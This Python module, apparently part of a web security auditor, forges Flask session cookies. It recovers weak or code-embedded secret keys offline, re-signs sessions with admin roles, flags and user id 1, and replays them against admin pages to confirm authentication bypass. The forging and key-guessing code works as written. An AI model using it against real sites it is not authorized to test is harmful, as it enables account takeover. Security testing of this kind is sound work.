"""Signed sessions whose key the code gives away: Flask's session cookie (itsdangerous: the
JSON, a timestamp and an HMAC-SHA1 under a key derived from SECRET_KEY with the salt
`cookie-session`) signed with a literal of the project's code or config (`app.secret_key =
'dev'`, `os.environ.get('SECRET_KEY', 'changeme')`) or a common placeholder.

The key is found offline: the identity's own cookie is verified locally against the candidates
(checks/jwt_keys), so no request is sent while guessing and no key leaves this process. With
it, the session is signed again as an administrator's would read (fields that name the user set
to `admin`, a role to `admin`, admin flags to true, a user id to 1; then with those flags added
where the cookie has none) and sent, as a new visitor, to the admin pages that refuse both the
identity and a visitor with no session. Let through twice, it proves that anyone who reads the
code signs in as anyone. Where no admin page refuses, a field that names the user is given a
canary and shown back on a page (checks/session's proof, with the cookie signed again)."""

from __future__ import annotations

import binascii
import hashlib
import hmac
import json
import re
import time
import zlib

from auditor.probe.checks.jwt_keys import b64url, candidates, keys_in_code, unb64url
from auditor.probe.checks.privileged_signup import admin_pages, opened, refused
from auditor.probe.checks.session import IDENTITY_WORDS, identity_fields, session_pages, shown_forged
from auditor.probe.cookies import cookie_pairs, with_cookie
from auditor.probe.interface import (
    Confirmation,
    InjectionPoint,
    Param,
    ProbeContext,
    Route,
    Sender,
    SiteCheck,
)
from auditor.probe.routes.inputs import name_words

SALT = b"cookie-session"  # Flask's SecureCookieSessionInterface
# payload.timestamp.signature, each base64url; a payload that starts with '.' is zlib-compressed
FLASK_COOKIE = re.compile(r"^\.?[A-Za-z0-9_-]+\.[A-Za-z0-9_-]{4,8}\.[A-Za-z0-9_-]{27}$")
ROLE_WORDS = frozenset({"role", "roles", "group", "level", "type", "permission", "permissions"})
FLAG_WORDS = frozenset({"admin", "superuser", "staff", "administrator"})
ADDED_FLAGS: dict[str, object] = {"role": "admin", "is_admin": True, "admin": True, "isAdmin": True,
                                  "username": "admin"}


def _signature(key: str, value: str) -> str:
    derived = hmac.new(key.encode(), SALT, hashlib.sha1).digest()
    return b64url(hmac.new(derived, value.encode(), hashlib.sha1).digest())


def flask_data(cookie: str) -> dict[str, object] | None:
    """The session's JSON object, or None when the value is not a Flask session cookie."""
    if not FLASK_COOKIE.match(cookie):
        return None
    payload = cookie.rsplit(".", 2)[0]
    try:
        raw = unb64url(payload.lstrip("."))
        data = json.loads(zlib.decompress(raw) if payload.startswith(".") else raw)
    except (binascii.Error, ValueError, zlib.error, UnicodeDecodeError):
        return None
    return data if isinstance(data, dict) else None


def flask_key(cookie: str, keys: list[tuple[str, str]]) -> tuple[str, str] | None:
    """(key, where it came from) of the first candidate that reproduces the cookie's signature."""
    value, _, signature = cookie.rpartition(".")
    return next(((k, origin) for k, origin in keys if hmac.compare_digest(_signature(k, value), signature)), None)


def flask_signed(data: dict[str, object], key: str) -> str:
    """The session cookie Flask would set for `data` under `key`, signed now."""
    raw = json.dumps(data, separators=(",", ":")).encode()
    packed = zlib.compress(raw)
    payload = "." + b64url(packed) if len(packed) < len(raw) - 1 else b64url(raw)
    now = int(time.time())
    value = f"{payload}.{b64url(now.to_bytes((now.bit_length() + 7) // 8, 'big'))}"
    return f"{value}.{_signature(key, value)}"


def as_admin(data: dict[str, object], add: bool) -> dict[str, object]:
    """The session as an administrator's would read: the user named `admin`, a role `admin`,
    admin flags true, a numeric user id 1; with `add`, the usual flags added where missing."""
    out = dict(data)
    for key, value in data.items():
        words = set(name_words(key))
        if words & ROLE_WORDS:
            out[key] = ["admin"] if isinstance(value, list) else "admin"
        elif words & FLAG_WORDS and isinstance(value, (bool, int)):
            out[key] = True if isinstance(value, bool) else 1
        elif words & IDENTITY_WORDS and isinstance(value, str) and not value.isdigit():
            out[key] = "admin"
        elif words & IDENTITY_WORDS and (isinstance(value, int) and not isinstance(value, bool) or
                                        isinstance(value, str) and value.isdigit()):
            out[key] = 1 if isinstance(value, int) else "1"
    if add:
        out.update({k: v for k, v in ADDED_FLAGS.items() if k not in data})
    return out


class SignedSessionForgery(SiteCheck):
    name = "session"  # `--check session` runs both forgeries

    def run(self, sender: Sender, ctx: ProbeContext, routes: list[Route]) -> list[Confirmation]:
        identities = [getattr(sender, "identity", {}), *(headers for _, headers in ctx.identities)]
        keys: list[tuple[str, str]] | None = None
        for identity in identities:
            cookie_header = next((v for k, v in identity.items() if k.lower() == "cookie"), "")
            for name, value in cookie_pairs(cookie_header).items():
                if (data := flask_data(value)) is None:
                    continue
                if keys is None:
                    keys = candidates(keys_in_code(ctx.project) if ctx.project is not None else [])
                if (found := flask_key(value, keys)) is None:
                    return []  # the app's one key is none of the candidates
                key, origin = found
                how = f"Flask's session cookie {name!r} is signed with {_said(key, origin)}"
                hit = self._admin(sender, identity, cookie_header, name, data, key, routes, how) or \
                    self._shown(sender, identity, cookie_header, name, data, key, ctx, routes, how)
                return [hit] if hit is not None else []
        return []

    def _admin(self, sender: Sender, identity: dict[str, str], cookie_header: str, name: str,
               data: dict[str, object], key: str, routes: list[Route], how: str) -> Confirmation | None:
        """An admin page that refuses the identity and a visitor, opened twice with the session
        signed again as an administrator's."""
        pages = [p for p in admin_pages(routes) if refused(sender.request("GET", p, headers=identity))]
        if not pages:
            return None
        with sender.new_visitor():
            pages = [p for p in pages if refused(sender.request("GET", p))]
            for add in (False, True):
                forged = as_admin(data, add)
                if forged == data:
                    continue
                header = with_cookie(cookie_header, name, flask_signed(forged, key))
                for page in pages:
                    first = sender.request("GET", page, headers={"Cookie": header})
                    if opened(first) and opened(again := sender.request("GET", page, headers={"Cookie": header})):
                        changed = {k: v for k, v in forged.items() if data.get(k) != v}
                        return Confirmation("weak-authentication", self.name,
                                            f"forged session: {how}; signed again with {_json(changed)} it opens "
                                            f"{page}, which refuses the identity's own session and a visitor",
                                            again, "", _cookie_point(page, name), endpoint=page, method="GET",
                                            severity="critical")
        return None

    def _shown(self, sender: Sender, identity: dict[str, str], cookie_header: str, name: str,
               data: dict[str, object], key: str, ctx: ProbeContext, routes: list[Route],
               how: str) -> Confirmation | None:
        pages = session_pages(ctx, routes)
        for field in identity_fields(data):
            hit = shown_forged(sender, identity, cookie_header, name, data, lambda obj: flask_signed(obj, key),
                               field, pages)
            if hit is not None:
                ex, canary, page = hit
                return Confirmation("weak-authentication", self.name,
                                    f"forged session: {how}; signed again with its {field!r} changed, the app "
                                    "takes the edited value as the signed-in user", ex, canary,
                                    _cookie_point(page, name), endpoint=page, method="GET", severity="critical")
        return None


def _cookie_point(page: str, name: str) -> InjectionPoint:
    cookie = Param(name, "cookie")
    return InjectionPoint(Route("GET", page, [cookie]), cookie)


def _said(key: str, origin: str) -> str:
    return f"a common weak key ({key!r})" if origin == "a common weak key" else f"the key {key!r} from {origin}"


def _json(data: dict[str, object]) -> str:
    return json.dumps(data, separators=(", ", ": "))
